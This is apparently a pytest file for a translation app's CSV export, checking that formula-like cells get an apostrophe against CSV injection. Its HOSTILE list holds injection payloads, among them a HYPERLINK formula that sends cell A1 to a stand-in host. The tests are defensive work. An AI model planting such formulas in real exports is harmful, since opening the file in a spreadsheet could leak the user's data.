"""Every CSV the app and the command line write neutralises cells a spreadsheet would run as formulas (OWASP's
CSV injection): a visitor's sentence "=HYPERLINK(...)" must reach the spreadsheet as text."""

from __future__ import annotations

import csv
import io

import pandas as pd
from helpers import REPO, run_cli

from transformer.io.export import csv_text

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]


def test_text_cells_labels_and_column_names_that_start_like_a_formula_get_an_apostrophe():
    frame = pd.DataFrame(
        {"source": HOSTILE, "BLEU": [-1.5] * len(HOSTILE), "=col": ["ok"] * len(HOSTILE)},
        index=pd.Index(HOSTILE, name="@row"),
    )
    rows = list(csv.reader(io.StringIO(csv_text(frame), newline="")))
    assert rows[0] == ["'@row", "source", "BLEU", "'=col"]
    for row, text in zip(rows[1:], HOSTILE, strict=True):
        assert row[0] == row[1] == "'" + text
        assert row[2] == "-1.5"  # numbers stay numbers, negative ones too
    plain = pd.DataFrame({"source": ["A dog runs.", "2 cats"]})
    assert csv_text(plain, index=False).split("\r\n") == plain.to_csv(index=False).split("\n")
    assert list(csv.reader(io.StringIO(csv_text(pd.DataFrame({"s": ["a\r=1"]})), newline=""))) == [
        ["", "s"],
        ["0", "a\r=1"],
    ]


def test_no_page_writes_a_csv_but_through_csv_text():
    for path in [*REPO.glob("pages/*.py"), *REPO.glob("ui/**/*.py"), *REPO.glob("transformer/cli/*.py")]:
        text = path.read_text()
        assert ".to_csv(" not in text and "csv.writer" not in text and "DictWriter" not in text, path


def test_the_alignment_table_of_the_command_line_neutralises_a_sentence(tmp_path, checkpoint_path):
    (tmp_path / "src.txt").write_text("=1+1 dog\n")
    (tmp_path / "tgt.txt").write_text("@cmd dog\n")
    (tmp_path / "gold.txt").write_text("0-0\n")
    table = tmp_path / "table.csv"
    done = run_cli(
        "align",
        "--checkpoint",
        checkpoint_path,
        "--src",
        tmp_path / "src.txt",
        "--tgt",
        tmp_path / "tgt.txt",
        "--gold",
        tmp_path / "gold.txt",
        "--table",
        table,
    )
    assert done.returncode == 0, done.stderr
    cells = [cell for row in csv.reader(io.StringIO(table.read_text())) for cell in row]
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
